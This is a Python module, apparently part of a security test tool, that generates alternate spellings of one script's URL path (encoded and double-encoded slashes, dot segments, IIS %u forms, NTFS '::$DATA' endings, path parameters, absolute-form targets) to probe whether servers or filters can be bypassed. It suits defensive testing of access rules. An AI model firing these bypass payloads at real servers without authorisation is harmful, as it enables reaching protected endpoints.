"""Ways to spell the address of one script, each a family: pure functions from a path to paths, as bytes.

Every family is something that some server or proxy undoes, or that some filter is known to overlook. Sources: RFC 3986
sections 3.3 and 6.2 (dot segments, percent-encoding, parameters), RFC 9112 section 3.2 (forms of a request target),
Apache `AcceptPathInfo`, `AllowEncodedSlashes` and `MultiViews`, nginx `merge_slashes`, IIS `%u` and overlong UTF-8.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

Family = Callable[[bytes, bytes], Iterator[bytes]]
"""From the folder (starts and ends with a slash) and the name of a script to targets."""

_TAILS = (
    b"/", b"//", b"/x", b"/x/", b"/x/y/z", b"/x.php", b"/x.css", b"/.css", b"/index.php", b"/x.html", b"/a%20b",
    b"/.", b"/..", b"/../", b"/x/..", b"/x/../", b"/./", b"/;x", b"/x;y=1", b"/%00", b"/%2f", b"/%2F..", b"/~", b"/*",
    b"/x%0a", b"/%0d%0a", b"/x?y", b"/?x=/y", b"/%e2%80%ae", b"/favicon.ico", b"/api/", b"/%3f", b"/%23",
    b"/static/app.js", b"/%2e",
)  # fmt: skip
_ENDS = (
    b".", b"..", b"%2e", b"%20", b"%20%20", b"%09", b"%0a", b"%0d", b"%00", b"%00.html", b"%00/x.css", b"::$DATA",
    b"::$data", b":$i30:$INDEX_ALLOCATION", b"%3a%3a$DATA", b"%3b", b"%3bx", b"%23", b"%3f", b"%3fx", b"%25", b"%",
    b"%a0", b"%c2%a0", b"+", b"\\", b"%5c", b"%5cx", b"\\x", b"./", b". .", b"%2e%20", b"%5c..%5cx",
)  # fmt: skip
_PARAMETERS = (
    b";", b";x", b";x=1", b";jsessionid=1", b";/x", b";a;b", b";.css", b";/../x", b"%3bx=1", b";%2fx", b";x/y.js",
)  # fmt: skip
_QUERIES = (
    b"?", b"??", b"?x", b"?x=1", b"?auto=1", b"?/x", b"?x=/../y", b"?a=1&a=2", b"?.css", b"?x=.php", b"?%00", b"?x#y",
    b"?version=1.0.0&auto=1", b"?x=%zz", b"?" + b"a" * 2000, b"?;x", b"&x=1", b"?x[]=1", b"?\xff",
)  # fmt: skip
_FRAGMENTS = (b"#", b"#x", b"#/x", b"#?x", b"#.css", b"#/../x", b"?#", b"/#x", b"##", b"#%23")
_RAW = (
    b"\x80",
    b"\xff",
    b"\xc0\xaf",
    b"\xe9",
    b"\xf0\x9f\x92\xa9",
    b"\x01",
    b"\x7f",
    b"\x0b",
    b"\xc2\xa0",
    b"\xed\xa0\x80",
)


def _hex(byte: int, *, upper: bool = False) -> bytes:
    return (b"%%%02X" if upper else b"%%%02x") % byte


def plain(folder: bytes, name: bytes) -> Iterator[bytes]:
    """The address itself."""
    yield folder + name


def path_info(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Something after the script's name that PHP gets as PATH_INFO."""
    for tail in _TAILS:
        yield folder + name + tail


def percent_encoding(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Each byte of the address alone, neighbours, the name, and everything."""
    path = folder + name
    for position, byte in enumerate(path):
        if position and byte != ord("/"):
            for upper in (False, True):
                yield path[:position] + _hex(byte, upper=upper) + path[position + 1 :]
    for position in range(len(name) - 1):
        encoded = b"".join(_hex(byte) for byte in name[position : position + 2])
        yield folder + name[:position] + encoded + name[position + 2 :]
    whole = b"".join(_hex(byte) for byte in name)
    yield folder + whole
    yield folder + whole.upper()
    yield folder + whole + b"/x"
    yield folder.replace(b"/", b"//") + whole
    yield b"".join(_hex(byte) if byte != ord("/") else b"/" for byte in path)


def encoded_slash(folder: bytes, name: bytes) -> Iterator[bytes]:
    """A separator as `%2F`, which nginx decodes before it looks for a location."""
    for slash in (b"%2f", b"%2F", b"/%2f", b"%2f/", b"%2f%2f"):
        yield folder[:-1] + slash + name
        yield folder + name + slash
        yield folder + name + slash + b"x"
    yield folder.replace(b"/", b"%2f") + name
    yield b"/" + folder[1:].replace(b"/", b"%2F") + name


def double_encoding(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Encoded twice: a proxy may decode once, the server again."""
    for position, byte in enumerate(name):
        yield folder + name[:position] + b"%25" + _hex(byte)[1:] + name[position + 1 :]
    yield folder + b"".join(b"%25" + _hex(byte)[1:] for byte in name)
    yield folder[:-1] + b"%252f" + name
    yield folder + name + b"%252fx"
    yield folder + name + b"%252e"
    digits = b"%02x" % name[0]
    yield folder + b"%25" + b"".join(_hex(digit) for digit in digits) + name[1:]


def unicode_encoding(folder: bytes, name: bytes) -> Iterator[bytes]:
    """IIS's `%uXXXX` and its full-width forms."""
    for position, byte in enumerate(name):
        before, after = folder + name[:position], name[position + 1 :]
        yield before + b"%%u%04x" % byte + after
        yield before + b"%%u%04x" % (byte + 0xFEE0) + after
    yield folder[:-1] + b"%u002f" + name


def out_of_reach(folder: bytes, name: bytes) -> Iterator[bytes]:
    """What no supported server undoes.

    Encoded three times takes two proxies in a row that forward the decoded path; overlong UTF-8 has been refused since
    2001 (RFC 3629 section 10); a division slash is no slash; a broken escape is answered with 400.
    """
    for position, byte in enumerate(name):
        before, after = folder + name[:position], name[position + 1 :]
        yield before + b"%2525" + _hex(byte)[1:] + after
        yield before + b"%%%02x%%%02x" % (0xC0 | byte >> 6, 0x80 | byte & 0x3F) + after
    yield folder[:-1] + b"%c0%af" + name
    yield folder[:-1] + b"%u2215" + name
    yield folder + name + b"%2"
    yield folder + name + b"%zz"
    yield folder[:-1] + b"%e2%88%95" + name


def dot_segments(folder: bytes, name: bytes) -> Iterator[bytes]:
    """`.` and `..` in all places, plain and encoded."""
    for dots in (
        b".",
        b"%2e",
        b"%2E",
        b"x/..",
        b"x/%2e%2e",
        b"x/.%2e",
        b"x/y/../..",
        b"..",
        b"%2e%2e",
        b"../..",
        b".%2E",
    ):
        yield folder + dots + b"/" + name
        yield b"/" + dots + folder + name
        yield folder + name + b"/" + dots + b"/" + name
    for place in (b"index.php", b"api", b"surveys", b"Resources/css"):
        up = b"/.." * (place.count(b"/") + 1)
        yield folder + place + up + b"/" + name
        yield folder + place + up.replace(b".", b"%2e") + b"/" + name
        yield folder + place + up + b"/" + name + b"/x"
    yield folder + name + b"/x/../../" + name
    yield folder + name + b"/../" + name
    yield folder + b"./././" + name


def slashes(folder: bytes, name: bytes) -> Iterator[bytes]:
    """More separators than needed."""
    for count in (2, 3, 9):
        yield folder + b"/" * (count - 1) + name
        yield b"/" * (count - 1) + folder + name
        yield folder.replace(b"/", b"/" * count) + name + b"/" * count
    yield folder + b"/./" + name
    yield folder[1:] + name


def backslashes(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Separators of Windows."""
    for slash in (b"\\", b"%5c", b"%5C", b"/\\", b"\\/", b"%255c"):
        yield folder[:-1] + slash + name
        yield folder.replace(b"/", slash) + name
        yield folder + name + slash + b"x"
        yield folder + b"x" + slash + b".." + slash + name
        yield folder + b"x" + slash + b"../" + name


def case(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Other letters on a file system that does not tell case apart."""
    for position in range(len(name)):
        yield folder + name[:position] + name[position : position + 1].swapcase() + name[position + 1 :]
    yield folder + name.upper()
    yield folder + name.title()
    yield folder.upper() + name
    yield folder.upper() + name.upper() + b"/x"
    yield folder + name.swapcase() + b"/"
    for position, byte in enumerate(name.upper()):
        yield folder + name[:position] + _hex(byte) + name[position + 1 :]


def endings(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Blanks, dots, NUL, streams of NTFS and more that a file system or a parser drops at the end."""
    for end in _ENDS:
        yield folder + name + end


def parameters(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Parameters of a segment, which servlet containers and some proxies drop."""
    for end in _PARAMETERS:
        yield folder + name + end
    yield folder + b";x/" + name
    yield folder[:-1] + b";x=1/" + name
    yield b"/;" + folder + name


def queries(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Queries that mean nothing or something to the script."""
    for query in _QUERIES:
        yield folder + name + query


def fragments(folder: bytes, name: bytes) -> Iterator[bytes]:
    """A fragment in the request target: nginx drops it and serves."""
    for fragment in _FRAGMENTS:
        yield folder + name + fragment


def raw_bytes(folder: bytes, name: bytes) -> Iterator[bytes]:
    """Bytes beyond ASCII and controls, raw and encoded, where a server skips them."""
    for raw in _RAW:
        encoded = b"".join(_hex(byte) for byte in raw)
        for text in (raw, encoded):
            yield folder + name + b"/" + text
            yield folder + text + b"/../" + name
            yield folder + name + b"?" + text
            yield folder + name + text
    yield folder + name + b"/%ff/" + name
    yield folder + name + b"/%C0%80"


def absolute_form(folder: bytes, name: bytes) -> Iterator[bytes]:
    """The request target with scheme and host, as towards a proxy."""
    path = folder + name
    hosts = (
        b"http://localhost",
        b"HTTP://LOCALHOST",
        b"https://localhost",
        b"http://localhost:80",
        b"http://a@localhost",
    )
    for host in (*hosts, b"http://redcap.example.org", b"http:///localhost", b"//localhost", b"ws://localhost"):
        yield host + path
        yield host + path + b"/x"
        yield host + path + b"?x=1"
        yield host + folder + _hex(name[0]) + name[1:]
    yield b"http://localhost" + path + b"#x"
    yield b"http://localhost//" + path


def without_extension(folder: bytes, name: bytes) -> Iterator[bytes]:
    """`/cron` for `/cron.php`, which Apache's MultiViews serves."""
    stem, dot, _ = name.partition(b".")
    if not dot or not stem:
        return
    for target in (stem, stem + b"/", stem + b"/x", stem + b"?x=1", stem + b";x", _hex(stem[0]) + stem[1:]):
        yield folder + target
        yield folder + b"/" + target
        yield folder + b"./" + target
    for target in (stem + b".", stem + b"%2f", stem[:-1] + _hex(stem[-1]), stem + b"#x"):
        yield folder + target


FAMILIES: dict[str, Family] = {
    "plain": plain,
    "path-info": path_info,
    "percent-encoding": percent_encoding,
    "encoded-slash": encoded_slash,
    "double-encoding": double_encoding,
    "unicode-encoding": unicode_encoding,
    "dot-segments": dot_segments,
    "slashes": slashes,
    "backslashes": backslashes,
    "case": case,
    "endings": endings,
    "parameters": parameters,
    "queries": queries,
    "fragments": fragments,
    "raw-bytes": raw_bytes,
    "absolute-form": absolute_form,
    "out-of-reach": out_of_reach,
}
"""Families of the target. `without_extension` stands apart: it reaches only a server with MultiViews."""
